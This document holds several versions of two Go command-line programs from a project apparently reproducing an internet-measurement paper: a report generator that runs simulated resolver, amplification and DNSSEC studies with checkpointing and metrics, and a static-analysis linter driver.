	"goingwild/internal/pipeline"
	"goingwild/internal/scanner"
)

func main() {
	var (
		order       = flag.Uint("order", 18, "address-space width in bits")
		seed        = flag.Uint64("seed", 0x60176A11D, "world seed")
		weeks       = flag.Int("weeks", 55, "weekly scans")
		epochs      = flag.Int("epochs", 0, "stream the weekly series incrementally as N weekly epochs (implies -weeks N; 0 = batch); stdout is byte-identical either way")
		week        = flag.Int("week", 50, "week for point-in-time experiments")
		markdown    = flag.Bool("markdown", false, "emit the markdown comparison table only")
		progress    = flag.Bool("progress", false, "print per-stage pipeline events to stderr")
		chaosProf   = flag.String("chaos", "", "fault-injection profile (clean, lossy, hostile, flaky); empty injects nothing")
		shards      = flag.Int("shards", 0, "run every sweep as N in-process leapfrog shard workers (0/1 = unsharded; stdout is byte-identical)")
		metricsPath = flag.String("metrics", "", "write a JSON metrics snapshot to this file at exit")
		debugAddr   = flag.String("debug-addr", "", "serve expvar/pprof/metrics over HTTP on this address (e.g. localhost:6060)")
	)
	flag.Parse()

	// SIGINT cancels the context; every study checkpoint honors it, so a
	// Ctrl-C lands between stages (or mid-sweep) instead of being ignored
	// for the rest of an order-24 run.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	cfg := core.DefaultConfig(*order)
	if *chaosProf != "" {
		c, err := core.ChaosProfileConfig(*order, *chaosProf)
		if err != nil {
			fatal(err)
		}
		cfg = c
	}
	cfg.Seed = *seed
	cfg.Weeks = *weeks
	if *epochs > 0 {
		cfg.Weeks = *epochs
		*weeks = *epochs
	}
	cfg.Shards = *shards
	// Metrics are a pure side channel: stdout is byte-identical with and
	// without a registry attached, so observability costs reproducibility
	// nothing (the determinism guard in CI enforces exactly that).
	var reg *metrics.Registry
	if *metricsPath != "" || *debugAddr != "" {
		reg = metrics.New()
		cfg.Metrics = reg
	}
	study, err := core.NewStudy(cfg)
	if err != nil {
		fatal(err)
	}
	defer study.Close()
	if *debugAddr != "" {
		addr, stopDebug, err := debughttp.Serve(*debugAddr, reg)
		if err != nil {
			fatal(err)
		}
		defer stopDebug()
		fmt.Fprintf(os.Stderr, "wildreport: debug endpoint on http://%s\n", addr)
	}
	if *metricsPath != "" {
		defer func() {
			if err := writeMetricsSnapshot(*metricsPath, reg); err != nil {
				fmt.Fprintln(os.Stderr, "wildreport:", err)
			}
		}()
	}
	if *progress {
		// Progress goes to stderr: stdout stays byte-identical with and
		// without -progress (the observer is a side channel only).
		study.Observer = stageProgress("wildreport")
		if reg != nil {
			// With a registry live, add the periodic one-line traffic
			// summary, clocked through the scanner's Clock seam.
			stopProg := metrics.StartProgress(os.Stderr, scanner.SystemClock, 2*time.Second, reg, nil)
			defer stopProg()
		}
	}
	scale := analysis.Scale(study.World.ScaleFactor())

	// Under -epochs the weekly series runs through the streaming epoch
	// engine: per-epoch deltas apply live (rendered to stderr under
	// -progress), while the resulting series — and therefore every line
	// of stdout — is byte-identical to the batch path.
	var series *churn.Series
	if *epochs > 0 {
		var live func(core.EpochView)
		if *progress {
			live = func(v core.EpochView) {
				fmt.Fprint(os.Stderr, analysis.RenderEpochDelta(v.Obs, v.Delta, scale, v.Lag))
			}
		}
		series, err = study.RunWeeklySeriesStreamContext(ctx, live)
	} else {
		series, err = study.RunWeeklySeriesContext(ctx)
	}
	if err != nil {
		fatal(err)
	}
	chaos, _, err := study.RunChaosContext(ctx, *week)
	if err != nil {
		fatal(err)
	}
	dev, err := study.RunDevicesContext(ctx, *week)
	if err != nil {
		fatal(err)
	}
	cohort, err := study.RunCohortStudyContext(ctx, *weeks)
	if err != nil {
		fatal(err)
	}
	cohort.ConcentrateSurvivors(study.World.ASNOf)
	util, err := study.RunUtilizationContext(ctx, *week)
	if err != nil {
		fatal(err)
	}
	dom, err := study.RunDomainStudyContext(ctx, *week, nil)
	if err != nil {
		fatal(err)
	}
	race, err := study.RunDNSSECRaceContext(ctx, *week, "CN", "wikileaks.org")
	if err != nil {
		fatal(err)
	}
	amp, ampScanned, err := study.RunAmplificationContext(ctx, *week, "chase.com")
	if err != nil {
		fatal(err)
	}
	pop, err := study.RunPopularityContext(ctx, *week)
	if err != nil {
		fatal(err)
	}

	if *markdown {
		var rows []analysis.Row
		rows = append(rows, analysis.CompareFigure1(series, scale)...)
		rows = append(rows, analysis.CompareTables12(series, scale)...)
		rows = append(rows, analysis.CompareTable3(chaos)...)
		rows = append(rows, analysis.CompareTable4(dev)...)
		rows = append(rows, analysis.CompareFigure2(cohort)...)
		rows = append(rows, analysis.CompareUtilization(util)...)
		rows = append(rows, analysis.CompareClassification(dom.Report, dom.Fig4)...)
		rows = append(rows, analysis.CompareExtensions(race, amp, pop)...)
		fmt.Print(analysis.Markdown(rows))
		return
	}

	fmt.Println(analysis.RenderFigure1(series, scale))
	fmt.Println(analysis.RenderTable1(series, scale, 10))
	fmt.Println(analysis.RenderTable2(series, scale))
	fmt.Println(analysis.RenderTable3(chaos, 10))
	fmt.Println(analysis.RenderTable4(dev))
	fmt.Println(analysis.RenderFigure2(cohort))
	fmt.Println(analysis.RenderUtilization(util))
	fmt.Println("Processing chain (Figure 3):")
	for _, st := range dom.StageTrace {
		fmt.Printf("  %-26s %d\n", st.Stage, st.Count)
	}
	fmt.Println()
	fmt.Println(analysis.RenderPrefilter(dom.Pre))
	fmt.Println(analysis.RenderTable5(dom.Report.Table5, domains.AllCategories))
	fmt.Println(analysis.RenderFigure4(dom.Fig4))
	fmt.Println(analysis.RenderCaseStudies(&dom.Report.Cases, scale))
	fmt.Println(analysis.RenderDNSSECRace(race))
	fmt.Println(analysis.RenderAmplification(amp, ampScanned))
	fmt.Println(analysis.RenderPopularity(pop, 10))
	fmt.Println(analysis.RenderNetalyzr(study.RunNetalyzr(*week, 400)))
	printDegraded(study)
}

// printDegraded reports the best-effort stages whose failures the
// pipeline absorbed. A clean run prints nothing, keeping stdout
// byte-identical to a build without degradation support.
func printDegraded(study *core.Study) {
	if len(study.Degraded) == 0 {
		return
	}
	fmt.Println("Degraded stages (best-effort failures absorbed):")
	for _, d := range study.Degraded {
		fmt.Printf("  %-26s %s\n", d.Stage, d.Err)
	}
	fmt.Println()
}

// stageProgress renders pipeline events as one stderr line per edge.
func stageProgress(prog string) pipeline.Observer {
	return func(ev pipeline.StageEvent) {
		switch ev.Kind {
		case pipeline.StageStart:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s start\n", prog, ev.Stage)
		case pipeline.StageDone:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s done  (%s)", prog, ev.Stage, ev.Elapsed)
			for _, c := range ev.Counts {
				fmt.Fprintf(os.Stderr, "  %s=%d", c.Name, c.Value)
			}
			fmt.Fprintln(os.Stderr)
		case pipeline.StageFailed:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s failed: %v\n", prog, ev.Stage, ev.Err)
		case pipeline.StageDegraded:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s degraded: %v\n", prog, ev.Stage, ev.Err)
		case pipeline.StageSkipped:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s skipped\n", prog, ev.Stage)
		}
	}
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// writeMetricsSnapshot writes the registry's final snapshot as JSON.
func writeMetricsSnapshot(path string, reg *metrics.Registry) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := reg.Snapshot().WriteJSON(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "wildreport:", err)
	os.Exit(1)
}
