// Command wildreport regenerates every table and figure of the paper and
// emits the paper-vs-measured comparison record (the data behind
// EXPERIMENTS.md).
//
// Usage:
//
//	wildreport -order 18 -weeks 55            # full run, text output
//	wildreport -order 18 -markdown            # markdown comparison table
//	wildreport -order 20 -progress            # stage events on stderr
//	wildreport -order 16 -chaos hostile       # run under injected faults
//	wildreport -order 16 -epochs 8 -progress  # stream the weekly series, live churn on stderr
//	wildreport -order 20 -checkpoint run.ckpt # crash-safe; resume with -resume
//
// With -checkpoint, every completed report section is journaled and the
// weekly series checkpoints per committed epoch (and mid-sweep at scan
// rendezvous); a killed run restarted with -resume produces stdout
// byte-identical to an uninterrupted run. The first SIGINT checkpoints
// at the next safe point and exits 3; a second aborts hard.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"time"

	"goingwild/internal/analysis"
	"goingwild/internal/checkpoint"
	"goingwild/internal/churn"
	"goingwild/internal/core"
	"goingwild/internal/debughttp"
	"goingwild/internal/domains"
	"goingwild/internal/metrics"
	"goingwild/internal/pipeline"
	"goingwild/internal/scanner"
)

func main() {
	var (
		order       = flag.Uint("order", 18, "address-space width in bits")
		seed        = flag.Uint64("seed", 0x60176A11D, "world seed")
		weeks       = flag.Int("weeks", 55, "weekly scans")
		epochs      = flag.Int("epochs", 0, "stream the weekly series incrementally as N weekly epochs (implies -weeks N; 0 = batch); stdout is byte-identical either way")
		week        = flag.Int("week", 50, "week for point-in-time experiments")
		markdown    = flag.Bool("markdown", false, "emit the markdown comparison table only")
		progress    = flag.Bool("progress", false, "print per-stage pipeline events to stderr")
		chaosProf   = flag.String("chaos", "", "fault-injection profile (clean, lossy, hostile, flaky); empty injects nothing")
		shards      = flag.Int("shards", 0, "run every sweep as N in-process leapfrog shard workers (0/1 = unsharded; stdout is byte-identical)")
		ckptDir     = flag.String("checkpoint", "", "directory for crash-safe checkpoints; progress is saved there at every safe point")
		resume      = flag.Bool("resume", false, "resume from the newest checkpoint in -checkpoint instead of starting over")
		metricsPath = flag.String("metrics", "", "write a JSON metrics snapshot to this file at exit")
		debugAddr   = flag.String("debug-addr", "", "serve expvar/pprof/metrics over HTTP on this address (e.g. localhost:6060)")
	)
	flag.Parse()

	if *resume && *ckptDir == "" {
		fatal(fmt.Errorf("-resume requires -checkpoint"))
	}
	if *ckptDir != "" && *markdown {
		// The markdown table is one atomic render at the very end; there
		// is no incremental output to journal, so the combination would
		// only feign crash safety.
		fatal(fmt.Errorf("-checkpoint and -markdown are mutually exclusive"))
	}

	fingerprint := fmt.Sprintf("wildreport order=%d seed=%#x weeks=%d epochs=%d week=%d chaos=%s shards=%d",
		*order, *seed, *weeks, *epochs, *week, *chaosProf, *shards)
	var runner *checkpoint.Runner
	var ctx context.Context
	if *ckptDir != "" {
		r, err := checkpoint.OpenRun(*ckptDir, *resume, fingerprint, os.Stdout, os.Stderr)
		if err != nil {
			fatal(err)
		}
		runner = r
		// Two-phase interrupts: first SIGINT checkpoints and stops, the
		// second cancels hard.
		var cancel context.CancelFunc
		ctx, cancel = context.WithCancel(context.Background())
		defer cancel()
		defer runner.InstallSignals(cancel)()
	} else {
		// SIGINT cancels the context; every study checkpoint honors it, so
		// a Ctrl-C lands between stages (or mid-sweep) instead of being
		// ignored for the rest of an order-24 run.
		var stop context.CancelFunc
		ctx, stop = signal.NotifyContext(context.Background(), os.Interrupt)
		defer stop()
	}

	cfg := core.DefaultConfig(*order)
	if *chaosProf != "" {
		c, err := core.ChaosProfileConfig(*order, *chaosProf)
		if err != nil {
			fatal(err)
		}
		cfg = c
	}
	cfg.Seed = *seed
	cfg.Weeks = *weeks
	if *epochs > 0 {
		cfg.Weeks = *epochs
		*weeks = *epochs
	}
	cfg.Shards = *shards
	// Metrics are a pure side channel: stdout is byte-identical with and
	// without a registry attached, so observability costs reproducibility
	// nothing (the determinism guard in CI enforces exactly that).
	var reg *metrics.Registry
	if *metricsPath != "" || *debugAddr != "" {
		reg = metrics.New()
		cfg.Metrics = reg
	}
	study, err := core.NewStudy(cfg)
	if err != nil {
		fatal(err)
	}
	defer study.Close()
	if *debugAddr != "" {
		addr, stopDebug, err := debughttp.Serve(*debugAddr, reg)
		if err != nil {
			fatal(err)
		}
		defer func() {
			if err := stopDebug(); err != nil {
				fmt.Fprintln(os.Stderr, "wildreport: debug endpoint:", err)
			}
		}()
		fmt.Fprintf(os.Stderr, "wildreport: debug endpoint on http://%s\n", addr)
	}
	if *metricsPath != "" {
		defer func() {
			if err := writeMetricsSnapshot(*metricsPath, reg); err != nil {
				fmt.Fprintln(os.Stderr, "wildreport:", err)
			}
		}()
	}
	if *progress {
		// Progress goes to stderr: stdout stays byte-identical with and
		// without -progress (the observer is a side channel only).
		study.Observer = stageProgress("wildreport")
		if reg != nil {
			// With a registry live, add the periodic one-line traffic
			// summary, clocked through the scanner's Clock seam.
			stopProg := metrics.StartProgress(os.Stderr, scanner.SystemClock, 2*time.Second, reg, nil)
			defer stopProg()
		}
	}
	scale := analysis.Scale(study.World.ScaleFactor())

	// The weekly series: batch or streamed without -checkpoint (stdout is
	// byte-identical either way), resumable epoch stream with it.
	runSeries := func() (*churn.Series, error) {
		var live func(core.EpochView)
		if *progress {
			live = func(v core.EpochView) {
				fmt.Fprint(os.Stderr, analysis.RenderEpochDelta(v.Obs, v.Delta, scale, v.Lag))
			}
		}
		switch {
		case runner != nil:
			return study.RunWeeklySeriesResumeContext(ctx, runner, live)
		case *epochs > 0:
			return study.RunWeeklySeriesStreamContext(ctx, live)
		default:
			return study.RunWeeklySeriesContext(ctx)
		}
	}

	if *markdown {
		// The comparison table needs every result at once; compute them in
		// the canonical order, then render the single markdown artifact.
		series, err := runSeries()
		if err != nil {
			fatal(err)
		}
		chaos, _, err := study.RunChaosContext(ctx, *week)
		if err != nil {
			fatal(err)
		}
		dev, err := study.RunDevicesContext(ctx, *week)
		if err != nil {
			fatal(err)
		}
		cohort, err := study.RunCohortStudyContext(ctx, *weeks)
		if err != nil {
			fatal(err)
		}
		cohort.ConcentrateSurvivors(study.World.ASNOf)
		util, err := study.RunUtilizationContext(ctx, *week)
		if err != nil {
			fatal(err)
		}
		dom, err := study.RunDomainStudyContext(ctx, *week, nil)
		if err != nil {
			fatal(err)
		}
		race, err := study.RunDNSSECRaceContext(ctx, *week, "CN", "wikileaks.org")
		if err != nil {
			fatal(err)
		}
		amp, ampScanned, err := study.RunAmplificationContext(ctx, *week, "chase.com")
		if err != nil {
			fatal(err)
		}
		pop, err := study.RunPopularityContext(ctx, *week)
		if err != nil {
			fatal(err)
		}
		_ = ampScanned
		var rows []analysis.Row
		rows = append(rows, analysis.CompareFigure1(series, scale)...)
		rows = append(rows, analysis.CompareTables12(series, scale)...)
		rows = append(rows, analysis.CompareTable3(chaos)...)
		rows = append(rows, analysis.CompareTable4(dev)...)
		rows = append(rows, analysis.CompareFigure2(cohort)...)
		rows = append(rows, analysis.CompareUtilization(util)...)
		rows = append(rows, analysis.CompareClassification(dom.Report, dom.Fig4)...)
		rows = append(rows, analysis.CompareExtensions(race, amp, pop)...)
		fmt.Print(analysis.Markdown(rows))
		return
	}

	// The full report runs as named sections — each computes its study
	// piece and renders it, in the same order the monolithic path did, so
	// stdout is byte-identical. Under -checkpoint every section journals
	// its output; a resume replays finished sections and re-runs only the
	// one the crash interrupted (each section re-seats the world clock
	// before touching the network, so section-granularity replay is
	// exact).
	run := sectioned(runner, study)
	sections := []struct {
		name string
		fn   func(w io.Writer) error
	}{
		{"series", func(w io.Writer) error {
			series, err := runSeries()
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderFigure1(series, scale))
			fmt.Fprintln(w, analysis.RenderTable1(series, scale, 10))
			fmt.Fprintln(w, analysis.RenderTable2(series, scale))
			return nil
		}},
		{"table3", func(w io.Writer) error {
			chaos, _, err := study.RunChaosContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderTable3(chaos, 10))
			return nil
		}},
		{"table4", func(w io.Writer) error {
			dev, err := study.RunDevicesContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderTable4(dev))
			return nil
		}},
		{"fig2", func(w io.Writer) error {
			cohort, err := study.RunCohortStudyContext(ctx, *weeks)
			if err != nil {
				return err
			}
			cohort.ConcentrateSurvivors(study.World.ASNOf)
			fmt.Fprintln(w, analysis.RenderFigure2(cohort))
			return nil
		}},
		{"util", func(w io.Writer) error {
			util, err := study.RunUtilizationContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderUtilization(util))
			return nil
		}},
		{"domains", func(w io.Writer) error {
			dom, err := study.RunDomainStudyContext(ctx, *week, nil)
			if err != nil {
				return err
			}
			fmt.Fprintln(w, "Processing chain (Figure 3):")
			for _, st := range dom.StageTrace {
				fmt.Fprintf(w, "  %-26s %d\n", st.Stage, st.Count)
			}
			fmt.Fprintln(w)
			fmt.Fprintln(w, analysis.RenderPrefilter(dom.Pre))
			fmt.Fprintln(w, analysis.RenderTable5(dom.Report.Table5, domains.AllCategories))
			fmt.Fprintln(w, analysis.RenderFigure4(dom.Fig4))
			fmt.Fprintln(w, analysis.RenderCaseStudies(&dom.Report.Cases, scale))
			return nil
		}},
		{"dnssec", func(w io.Writer) error {
			race, err := study.RunDNSSECRaceContext(ctx, *week, "CN", "wikileaks.org")
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderDNSSECRace(race))
			return nil
		}},
		{"amp", func(w io.Writer) error {
			amp, ampScanned, err := study.RunAmplificationContext(ctx, *week, "chase.com")
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderAmplification(amp, ampScanned))
			return nil
		}},
		{"popularity", func(w io.Writer) error {
			pop, err := study.RunPopularityContext(ctx, *week)
			if err != nil {
				return err
			}
			fmt.Fprintln(w, analysis.RenderPopularity(pop, 10))
			return nil
		}},
		{"netalyzr", func(w io.Writer) error {
			fmt.Fprintln(w, analysis.RenderNetalyzr(study.RunNetalyzr(*week, 400)))
			return nil
		}},
		{"degraded", func(w io.Writer) error {
			printDegraded(w, study)
			return nil
		}},
	}
	for _, s := range sections {
		if err := run(s.name, s.fn); err != nil {
			fatal(err)
		}
	}
}

// sectioned returns the seam every stdout block goes through: direct
// execution without -checkpoint, journaled crash-safe sections with it.
// Each checkpointed section also persists the degradation entries it
// contributed, so a resumed run's final "Degraded stages" block matches
// the uninterrupted run even when the degrading section is replayed
// from the journal instead of re-executed.
func sectioned(runner *checkpoint.Runner, study *core.Study) func(name string, fn func(w io.Writer) error) error {
	if runner == nil {
		return func(name string, fn func(w io.Writer) error) error { return fn(os.Stdout) }
	}
	return func(name string, fn func(w io.Writer) error) error {
		doc := "degraded:" + name
		if runner.Done(name) {
			var recs []core.DegradedStage
			if ok, err := runner.Fetch(doc, &recs); err != nil {
				return err
			} else if ok {
				study.Degraded = append(study.Degraded, recs...)
			}
			return runner.Section(name, fn)
		}
		base := len(study.Degraded)
		return runner.Section(name, func(w io.Writer) error {
			if err := fn(w); err != nil {
				return err
			}
			// Overwriting the same value makes a crash-retry idempotent.
			if delta := study.Degraded[base:]; len(delta) > 0 {
				return runner.Update(doc, delta)
			}
			return nil
		})
	}
}

// printDegraded reports the best-effort stages whose failures the
// pipeline absorbed. A clean run prints nothing, keeping stdout
// byte-identical to a build without degradation support.
func printDegraded(w io.Writer, study *core.Study) {
	if len(study.Degraded) == 0 {
		return
	}
	fmt.Fprintln(w, "Degraded stages (best-effort failures absorbed):")
	for _, d := range study.Degraded {
		fmt.Fprintf(w, "  %-26s %s\n", d.Stage, d.Err)
	}
	fmt.Fprintln(w)
}

// stageProgress renders pipeline events as one stderr line per edge.
func stageProgress(prog string) pipeline.Observer {
	return func(ev pipeline.StageEvent) {
		switch ev.Kind {
		case pipeline.StageStart:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s start\n", prog, ev.Stage)
		case pipeline.StageDone:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s done  (%s)", prog, ev.Stage, ev.Elapsed)
			for _, c := range ev.Counts {
				fmt.Fprintf(os.Stderr, "  %s=%d", c.Name, c.Value)
			}
			fmt.Fprintln(os.Stderr)
		case pipeline.StageFailed:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s failed: %v\n", prog, ev.Stage, ev.Err)
		case pipeline.StageDegraded:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s degraded: %v\n", prog, ev.Stage, ev.Err)
		case pipeline.StageSkipped:
			fmt.Fprintf(os.Stderr, "%s: stage %-16s skipped\n", prog, ev.Stage)
		}
	}
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

// writeMetricsSnapshot writes the registry's final snapshot as JSON.
func writeMetricsSnapshot(path string, reg *metrics.Registry) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := reg.Snapshot().WriteJSON(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func fatal(err error) {
	if errors.Is(err, checkpoint.ErrStopped) {
		fmt.Fprintln(os.Stderr, "wildreport: checkpoint saved; resume with -resume")
		os.Exit(3)
	}
	fmt.Fprintln(os.Stderr, "wildreport:", err)
	os.Exit(1)
}
