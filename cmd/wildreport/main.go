// Command wildreport regenerates every table and figure of the paper and
// emits the paper-vs-measured comparison record (the data behind
// EXPERIMENTS.md).
//
// Usage:
//
//	wildreport -order 18 -weeks 55            # full run, text output
//	wildreport -order 18 -markdown            # markdown comparison table
package main

import (
	"flag"
	"fmt"
	"os"

	"goingwild/internal/analysis"
	"goingwild/internal/core"
	"goingwild/internal/domains"
)

func main() {
	var (
		order    = flag.Uint("order", 18, "address-space width in bits")
		seed     = flag.Uint64("seed", 0x60176A11D, "world seed")
		weeks    = flag.Int("weeks", 55, "weekly scans")
		week     = flag.Int("week", 50, "week for point-in-time experiments")
		markdown = flag.Bool("markdown", false, "emit the markdown comparison table only")
	)
	flag.Parse()

	cfg := core.DefaultConfig(*order)
	cfg.Seed = *seed
	cfg.Weeks = *weeks
	study, err := core.NewStudy(cfg)
	if err != nil {
		fatal(err)
	}
	defer study.Close()
	scale := analysis.Scale(study.World.ScaleFactor())

	series, err := study.RunWeeklySeries()
	if err != nil {
		fatal(err)
	}
	chaos, _, err := study.RunChaos(*week)
	if err != nil {
		fatal(err)
	}
	dev, err := study.RunDevices(*week)
	if err != nil {
		fatal(err)
	}
	cohort, err := study.RunCohortStudy(*weeks)
	if err != nil {
		fatal(err)
	}
	cohort.ConcentrateSurvivors(study.World.ASNOf)
	util, err := study.RunUtilization(*week)
	if err != nil {
		fatal(err)
	}
	dom, err := study.RunDomainStudy(*week, nil)
	if err != nil {
		fatal(err)
	}
	race, err := study.RunDNSSECRace(*week, "CN", "wikileaks.org")
	if err != nil {
		fatal(err)
	}
	amp, ampScanned, err := study.RunAmplification(*week, "chase.com")
	if err != nil {
		fatal(err)
	}
	pop, err := study.RunPopularity(*week)
	if err != nil {
		fatal(err)
	}

	if *markdown {
		var rows []analysis.Row
		rows = append(rows, analysis.CompareFigure1(series, scale)...)
		rows = append(rows, analysis.CompareTables12(series, scale)...)
		rows = append(rows, analysis.CompareTable3(chaos)...)
		rows = append(rows, analysis.CompareTable4(dev)...)
		rows = append(rows, analysis.CompareFigure2(cohort)...)
		rows = append(rows, analysis.CompareUtilization(util)...)
		rows = append(rows, analysis.CompareClassification(dom.Report, dom.Fig4)...)
		rows = append(rows, analysis.CompareExtensions(race, amp, pop)...)
		fmt.Print(analysis.Markdown(rows))
		return
	}

	fmt.Println(analysis.RenderFigure1(series, scale))
	fmt.Println(analysis.RenderTable1(series, scale, 10))
	fmt.Println(analysis.RenderTable2(series, scale))
	fmt.Println(analysis.RenderTable3(chaos, 10))
	fmt.Println(analysis.RenderTable4(dev))
	fmt.Println(analysis.RenderFigure2(cohort))
	fmt.Println(analysis.RenderUtilization(util))
	fmt.Println("Processing chain (Figure 3):")
	for _, st := range dom.StageTrace {
		fmt.Printf("  %-26s %d\n", st.Stage, st.Count)
	}
	fmt.Println()
	fmt.Println(analysis.RenderPrefilter(dom.Pre))
	fmt.Println(analysis.RenderTable5(dom.Report.Table5, domains.AllCategories))
	fmt.Println(analysis.RenderFigure4(dom.Fig4))
	fmt.Println(analysis.RenderCaseStudies(&dom.Report.Cases, scale))
	fmt.Println(analysis.RenderDNSSECRace(race))
	fmt.Println(analysis.RenderAmplification(amp, ampScanned))
	fmt.Println(analysis.RenderPopularity(pop, 10))
	fmt.Println(analysis.RenderNetalyzr(study.RunNetalyzr(*week, 400)))
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "wildreport:", err)
	os.Exit(1)
}
