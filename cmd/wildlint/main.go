// Command wildlint runs the project's static-analysis pass (see
// internal/lint) over the module: determinism, maporder, gohygiene,
// errdrop, ctxhygiene, and sleepcall.
//
// Usage:
//
//	wildlint [./...|dir ...]
//
// With no arguments (or the literal ./...) it analyzes every package in
// the module containing the current directory. Findings print one per
// line as `file:line: [rule] message`; the exit status is 1 when any
// finding survives, 2 on load errors.
package main

import (
	"fmt"
	"os"
	"path/filepath"

	"goingwild/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	cwd, err := os.Getwd()
	if err != nil {
		fmt.Fprintln(os.Stderr, "wildlint:", err)
		return 2
	}
	modRoot, err := lint.FindModuleRoot(cwd)
	if err != nil {
		fmt.Fprintln(os.Stderr, "wildlint:", err)
		return 2
	}
	loader, err := lint.NewLoader(modRoot)
	if err != nil {
		fmt.Fprintln(os.Stderr, "wildlint:", err)
		return 2
	}

	dirs, err := expandArgs(args, modRoot)
	if err != nil {
		fmt.Fprintln(os.Stderr, "wildlint:", err)
		return 2
	}

	cfg := lint.DefaultConfig(loader.ModPath)
	status := 0
	for _, dir := range dirs {
		pkg, err := loader.LoadDir(dir)
		if err != nil {
			fmt.Fprintln(os.Stderr, "wildlint:", err)
			status = 2
			continue
		}
		for _, f := range cfg.Analyze(pkg) {
			f.Pos.Filename = relPath(cwd, f.Pos.Filename)
			fmt.Println(f)
			if status == 0 {
				status = 1
			}
		}
	}
	return status
}

// expandArgs turns the command-line patterns into package directories.
// The only pattern understood is ./... (the whole module); anything else
// is taken as a directory holding one package.
func expandArgs(args []string, modRoot string) ([]string, error) {
	if len(args) == 0 {
		return lint.PackageDirs(modRoot)
	}
	var dirs []string
	for _, a := range args {
		if a == "./..." || a == "..." {
			more, err := lint.PackageDirs(modRoot)
			if err != nil {
				return nil, err
			}
			dirs = append(dirs, more...)
			continue
		}
		dirs = append(dirs, a)
	}
	return dirs, nil
}

// relPath shortens p relative to base when that makes it shorter.
func relPath(base, p string) string {
	if rel, err := filepath.Rel(base, p); err == nil && len(rel) < len(p) {
		return rel
	}
	return p
}
