// Command wildlint runs the project's static-analysis pass (see
// internal/lint) over the module: the six syntactic rules (determinism,
// maporder, gohygiene, errdrop, ctxhygiene, sleepcall) and the four
// flow-sensitive ones (lockcheck, atomichygiene, hotpath, taintflow).
//
// Usage:
//
//	wildlint [-json] [-rules a,b,c] [-escape-log file] [./...|dir ...]
//
// With no arguments (or the literal ./...) it analyzes every package in
// the module containing the current directory. Findings print one per
// line as `file:line: [rule] message`; -json emits them instead as a
// sorted JSON array of {rule, file, line, msg, allowed} objects (allowed
// findings are included in JSON and suppressed in text). -rules
// restricts analysis to a comma-separated subset of rule names.
// -escape-log cross-checks //lint:hotpath functions against the
// compiler's escape analysis: the file is the stderr of
// `go build -a -gcflags=-m ./...` and any heap allocation the compiler
// reports inside an annotated function is a finding (`make lint-escape`
// wires this up).
//
// Exit status: 0 clean, 1 when any finding survives, 2 when a package
// fails to load or type-check — a partial analysis is not a clean one,
// so load failures are loud, named, and fatal rather than skipped.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"goingwild/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

// jsonFinding is the -json wire shape, one object per finding, sorted by
// (file, line, rule, msg). Allowed marks findings a //lint:allow
// suppresses; text mode hides them, JSON reports the allow-state.
type jsonFinding struct {
	Rule    string `json:"rule"`
	File    string `json:"file"`
	Line    int    `json:"line"`
	Msg     string `json:"msg"`
	Allowed bool   `json:"allowed"`
}

func run(args []string, stdout, stderr *os.File) int {
	fs := flag.NewFlagSet("wildlint", flag.ContinueOnError)
	fs.SetOutput(stderr)
	jsonOut := fs.Bool("json", false, "emit findings as a sorted JSON array (includes allowed findings with their allow-state)")
	rulesFlag := fs.String("rules", "", "comma-separated rules to run (default: all)")
	escapeLog := fs.String("escape-log", "", "cross-check //lint:hotpath functions against this `go build -gcflags=-m` stderr file")
	if err := fs.Parse(args); err != nil {
		return 2
	}

	cwd, err := os.Getwd()
	if err != nil {
		fmt.Fprintln(stderr, "wildlint:", err)
		return 2
	}
	modRoot, err := lint.FindModuleRoot(cwd)
	if err != nil {
		fmt.Fprintln(stderr, "wildlint:", err)
		return 2
	}
	loader, err := lint.NewLoader(modRoot)
	if err != nil {
		fmt.Fprintln(stderr, "wildlint:", err)
		return 2
	}

	dirs, err := expandArgs(fs.Args(), modRoot)
	if err != nil {
		fmt.Fprintln(stderr, "wildlint:", err)
		return 2
	}

	cfg := lint.DefaultConfig(loader.ModPath)
	if *rulesFlag != "" {
		rules, err := parseRules(*rulesFlag)
		if err != nil {
			fmt.Fprintln(stderr, "wildlint:", err)
			return 2
		}
		cfg.Rules = rules
	}

	var findings []lint.Finding
	for _, dir := range dirs {
		pkg, err := loader.LoadDir(dir)
		if err != nil {
			// A package that fails to load or type-check means the
			// analysis set is incomplete; report which one and stop
			// rather than print a misleadingly clean result.
			fmt.Fprintf(stderr, "wildlint: cannot analyze %s: %v\n", relPath(cwd, dir), err)
			fmt.Fprintln(stderr, "wildlint: aborting: findings below this point would be incomplete")
			return 2
		}
		for _, f := range cfg.AnalyzeAll(pkg) {
			f.Pos.Filename = relPath(cwd, f.Pos.Filename)
			findings = append(findings, f)
		}
		if *escapeLog != "" {
			spans := lint.HotpathSpans(pkg)
			logBytes, err := os.ReadFile(*escapeLog)
